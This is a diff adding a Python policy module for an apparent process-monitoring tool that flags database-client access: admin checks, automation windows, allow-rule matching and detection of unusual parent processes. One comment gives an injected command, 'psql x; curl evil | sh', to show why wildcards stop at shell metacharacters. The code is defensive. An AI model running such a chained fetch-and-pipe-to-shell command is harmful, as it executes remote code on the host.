@@ -1,0 +1,281 @@
+"""Policy decisions shared by the extension and the correlator: pure functions.
+
+Who is an admin, when automation is expected, which allow rule matches, what
+service context a process has and whether it runs under a web or database
+server. Inputs are plain values (names, paths, timestamps), never /proc or logs.
+"""
+
+from __future__ import annotations
+
+import fnmatch
+import ipaddress
+import re
+from dataclasses import dataclass
+from datetime import datetime, timezone
+from functools import lru_cache
+from typing import Iterable, Sequence
+from zoneinfo import ZoneInfo
+
+from . import catalog
+from .cmdline import basename
+from .config import AllowRule, AutomationWindow, Config
+
+
+@dataclass(frozen=True)
+class Ancestor:
+    """One process above the one we judge, nearest first."""
+
+    name: str  # comm or basename of the executable
+    path: str = ""
+    cmdline: str = ""
+
+
+# ---------------------------------------------------------------------------
+# Users
+
+
+def is_admin(config: Config, user: str, groups: Iterable[str] = ()) -> bool:
+    if user and user in config.admin_users:
+        return True
+    return any(group in config.admin_groups for group in groups)
+
+
+def is_service_account(config: Config, user: str) -> bool:
+    return bool(user) and user in config.service_accounts
+
+
+def is_web_account(user: str) -> bool:
+    return user in catalog.WEB_ACCOUNTS
+
+
+# ---------------------------------------------------------------------------
+# Automation windows
+
+
+def _window_applies(window: AutomationWindow, user: str, host: str) -> bool:
+    if window.users and user not in window.users:
+        return False
+    if window.hosts and not any(fnmatch.fnmatchcase(host, pattern) for pattern in window.hosts):
+        return False
+    return True
+
+
+@lru_cache(maxsize=64)
+def _zone(name: str) -> ZoneInfo:
+    return ZoneInfo(name)
+
+
+def _inside(window: AutomationWindow, epoch_seconds: float) -> bool:
+    local = datetime.fromtimestamp(epoch_seconds, tz=timezone.utc).astimezone(_zone(window.tz))
+    minute = local.hour * 60 + local.minute
+    day = local.weekday()
+    if window.start_minute < window.end_minute:
+        return day in window.days and window.start_minute <= minute < window.end_minute
+    # Crosses midnight: the part after midnight belongs to the day it started.
+    if minute >= window.start_minute:
+        return day in window.days
+    if minute < window.end_minute:
+        return (day - 1) % 7 in window.days
+    return False
+
+
+def windows_for(config: Config, user: str, host: str) -> tuple[AutomationWindow, ...]:
+    """The automation windows that name this user or host (or everyone)."""
+    return tuple(w for w in config.automation_windows if _window_applies(w, user, host))
+
+
+def in_automation_window(config: Config, epoch_seconds: float, user: str, host: str) -> bool:
+    return any(_inside(w, epoch_seconds) for w in windows_for(config, user, host))
+
+
+def automation_window_ok(config: Config, epoch_seconds: float, user: str, host: str) -> bool:
+    """True unless windows name this user or host and the time falls outside all of them.
+
+    Contract section 4: a service context makes an access expected "where
+    automation_windows name that user or host, [when it] falls inside one of them".
+    """
+    applicable = windows_for(config, user, host)
+    if not applicable:
+        return True
+    return any(_inside(w, epoch_seconds) for w in applicable)
+
+
+# ---------------------------------------------------------------------------
+# Allow rules
+
+# Characters a shell treats as command separators, substitutions or
+# redirections: a `*` in an allow rule never matches across them, so
+# `psql * -c \copy *` cannot allow `psql x; curl evil | sh`.
+_SHELL_META = ";|&$`()<>\n\r"
+
+
+@lru_cache(maxsize=512)
+def _glob_regex(glob: str) -> re.Pattern[str]:
+    parts = []
+    for char in glob:
+        if char == "*":
+            parts.append(f"[^{re.escape(_SHELL_META)}]*")
+        elif char == "?":
+            parts.append(f"[^{re.escape(_SHELL_META)}]")
+        else:
+            parts.append(re.escape(char))
+    return re.compile("".join(parts), re.S)
+
+
+def glob_match(glob: str, text: str) -> bool:
+    """Whole-string glob match where wildcards never span shell metacharacters."""
+    if any(char in text for char in _SHELL_META) and not any(char in glob for char in _SHELL_META):
+        return False
+    return _glob_regex(glob).fullmatch(text) is not None
+
+
+@dataclass(frozen=True)
+class AccessFacts:
+    """What an allow rule can be matched against."""
+
+    user: str
+    tool: str  # basename of the DB tool
+    parent_path: str
+    host: str
+    cmdline: str
+
+
+def allow_rule_matches(rule: AllowRule, facts: AccessFacts) -> bool:
+    """Every field the rule gives must match."""
+    if rule.user is not None and not fnmatch.fnmatchcase(facts.user, rule.user):
+        return False
+    if rule.tool is not None and rule.tool != facts.tool and rule.tool != basename(facts.tool):
+        return False
+    if rule.parent is not None and not (
+        glob_match(rule.parent, facts.parent_path) or (("/" not in rule.parent) and glob_match(rule.parent, basename(facts.parent_path)))
+    ):
+        return False
+    if rule.host is not None and not fnmatch.fnmatchcase(facts.host, rule.host):
+        return False
+    if rule.cmdline is not None and not glob_match(rule.cmdline, facts.cmdline):
+        return False
+    return True
+
+
+def matching_allow_rule(config: Config, facts: AccessFacts) -> AllowRule | None:
+    for rule in config.allow:
+        if allow_rule_matches(rule, facts):
+            return rule
+    return None
+
+
+# ---------------------------------------------------------------------------
+# Service context and server parents
+
+
+@dataclass(frozen=True)
+class ServiceContext:
+    kind: str  # "cron", "automation", "systemd", "service-account", "none"
+    detail: str = ""
+
+    @property
+    def known(self) -> bool:
+        return self.kind != "none"
+
+    def __str__(self) -> str:
+        return f"{self.kind}:{self.detail}" if self.detail else self.kind
+
+
+NO_SERVICE_CONTEXT = ServiceContext("none")
+# systemd units that are sessions, not services.
+_SESSION_UNIT = re.compile(r"^(session-\d+\.scope|user@\d+\.service|init\.scope|-\.slice|.*\.slice)$")
+
+
+def _ancestor_names(ancestor: Ancestor) -> tuple[str, ...]:
+    names = [ancestor.name]
+    if ancestor.path:
+        names.append(basename(ancestor.path))
+    if ancestor.cmdline:
+        first = ancestor.cmdline.split(" ", 1)[0]
+        names.append(basename(first))
+        # interpreters: `python3 /usr/bin/ansible-playbook`, `java -jar agent.jar`
+        for token in ancestor.cmdline.split()[1:4]:
+            names.append(basename(token))
+    return tuple(n for n in names if n)
+
+
+def service_context(
+    config: Config,
+    user: str,
+    ancestors: Sequence[Ancestor],
+    systemd_unit: str = "",
+) -> ServiceContext:
+    """The known service context of a process, or NO_SERVICE_CONTEXT.
+
+    `ancestors` are nearest first and should stop before pid 1 (pid 1 itself
+    does not count). `systemd_unit` is the unit from /proc/PID/cgroup, if any.
+    """
+    if is_service_account(config, user):
+        return ServiceContext("service-account", user)
+    for ancestor in ancestors:
+        names = _ancestor_names(ancestor)
+        if any(catalog.is_cron(n) for n in names):
+            return ServiceContext("cron", ancestor.name)
+        agent = next((n for n in names if catalog.is_automation_agent(n)), "")
+        if agent:
+            return ServiceContext("automation", agent)
+    unit = systemd_unit.rsplit("/", 1)[-1]
+    if unit and not _SESSION_UNIT.match(unit):
+        unit_name = unit.removesuffix(".service")
+        if unit.startswith(("cron", "crond", "anacron")):
+            return ServiceContext("cron", unit)
+        if not (catalog.is_web_server(unit_name) or catalog.is_db_server(unit_name) or unit_name.startswith(
+            ("apache", "php", "mysql", "mariadb", "postgresql", "mongod", "redis")
+        )):
+            return ServiceContext("systemd", unit)
+    return NO_SERVICE_CONTEXT
+
+
+def server_ancestor(ancestors: Sequence[Ancestor], depth: int = 2) -> Ancestor | None:
+    """A web or database server among the nearest `depth` ancestors (parent, grandparent)."""
+    for ancestor in ancestors[:depth]:
+        names = (ancestor.name, basename(ancestor.path))
+        if any(catalog.is_web_server(n) or catalog.is_db_server(n) for n in names if n):
+            return ancestor
+    return None
+
+
+def interactive(tty: str, ancestors: Sequence[Ancestor]) -> bool:
+    """A person at a keyboard: a terminal, or a login daemon among the ancestors."""
+    if tty and tty not in ("?", "none", ""):
+        return True
+    return any(a.name in catalog.LOGIN_ANCESTORS or basename(a.path) in catalog.LOGIN_ANCESTORS for a in ancestors)
+
+
+def unusual_parent(ancestor: Ancestor | None) -> str:
+    """Why a parent is unusual for a DB client ("" when it is not)."""
+    if ancestor is None:
+        return ""
+    path = ancestor.path
+    name = ancestor.name or basename(path)
+    if catalog.is_web_server(name) or catalog.is_web_server(basename(path)):
+        return "web-server-parent"
+    if catalog.is_db_server(name) or catalog.is_db_server(basename(path)):
+        return "db-server-parent"
+    if path.startswith(catalog.STAGING_DIRS):
+        return "parent-in-staging-dir"
+    if basename(path).startswith(".") or name.startswith("."):
+        return "hidden-parent"
+    return ""
+
+
+# ---------------------------------------------------------------------------
+# Networks
+
+
+def is_external_address(config: Config, address: str) -> bool:
+    """True for a routable address outside loopback, link-local and internal_networks."""
+    try:
+        ip = ipaddress.ip_address(address.split("%", 1)[0])
+    except ValueError:
+        return False
+    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
+        ip = ip.ipv4_mapped
+    if ip.is_loopback or ip.is_link_local or ip.is_unspecified or ip.is_multicast:
+        return False
+    return not any(ip in network for network in config.internal_networks)
